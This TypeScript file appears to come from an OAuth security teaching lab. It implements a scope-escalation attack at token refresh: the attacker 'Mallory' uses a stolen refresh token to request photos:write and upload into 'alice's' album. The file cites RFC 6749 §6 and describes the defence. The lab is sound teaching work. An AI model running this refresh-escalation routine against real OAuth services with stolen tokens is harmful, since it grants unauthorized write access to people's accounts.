import "server-only";
import { rfcSection } from "@seven-steps/protocol";
import { labAttack } from "@seven-steps/story";
import { env } from "@/env";
import { photoTitlesFor, readBody } from "@/mallory/loot";
import type { Attack } from "./attack";
import { refreshAsTheVictimClient } from "./victim-client";

/** What alice allowed her app, and what Mallory asks for on top of it. */
const granted = "profile photos:read";
const escalated = "profile photos:read photos:write";

/** The photo Mallory leaves in alice's album: a harmless one, named for what it proves. */
const mallorysUpload = { title: "Uploaded by Mallory, with a scope alice never granted", motif: "mirror", palette: "crimson" };

/**
 * Attack 13: scope escalation at refresh. alice's app was allowed to read alice's photos; Mallory,
 * holding its refresh token, asks the refresh for the right to write as well, which alice never
 * granted. RFC 6749 §6: the scope of a refresh "MUST NOT include any scope not originally
 * granted by the resource owner".
 */
export const refreshScopeEscalation: Attack = {
  ...labAttack("refresh-scope-escalation"),
  story: {
    wants: "to write into alice's album, which alice allowed nobody to do.",
    has: `a refresh token of alice's app, stolen from its storage: alice allowed the app "${granted}", reading only. The lab hands it to her, as the theft would.`,
  },
  steps: [
    `alice's app asks PhotoCloud for "${granted}"; alice allows it, and the app gets tokens.`,
    "Its refresh token leaks to Mallory.",
    `Mallory refreshes with it, asking for "${escalated}": photos:write on top of what alice granted.`,
    "If she gets an access token with photos:write, she uploads a photo into alice's album.",
  ],
  defence: {
    summary: "A refresh may narrow the scope alice granted, never widen it: the token endpoint refuses any scope she did not grant (invalid_scope).",
    see: [rfcSection(6749, "6")],
  },
  weakening: "refresh-scope-narrowing",
  needsVictimBrowser: true,
  phases: {
    async escalate({ mallory }, input) {
      const refreshToken = typeof input.refresh_token === "string" ? input.refresh_token : "";
      if (!refreshToken) return { outcome: { verdict: "could-not-run", summary: "No refresh token reached Mallory: alice's app got none." } };
      const response = await refreshAsTheVictimClient(mallory, refreshToken, escalated);
      const body = await readBody(response);
      const answer = { status: response.status, body };
      if (!response.ok) {
        return { outcome: { verdict: "refused", summary: "The token endpoint refused to add photos:write to what alice granted (invalid_scope).", answer } };
      }
      const accessToken = (body as { access_token?: string }).access_token ?? "";
      const upload = await mallory.fetch(`${env.RESOURCE_API_URL}/photos`, {
        method: "POST",
        headers: { authorization: `Bearer ${accessToken}`, "content-type": "application/json" },
        body: JSON.stringify(mallorysUpload),
      });
      if (!upload.ok) {
        return { outcome: { verdict: "refused", summary: `The refresh gave Mallory a token, but the PhotoCloud API refused her upload (${upload.status}).`, answer } };
      }
      const photos = await photoTitlesFor(mallory, accessToken);
      return {
        outcome: {
          verdict: "succeeded",
          summary: `The refresh gave Mallory photos:write, which alice never granted, and she uploaded "${mallorysUpload.title}" into alice's album.`,
          answer,
          loot: photos.titles ?? [mallorysUpload.title],
        },
      };
    },
  },
};
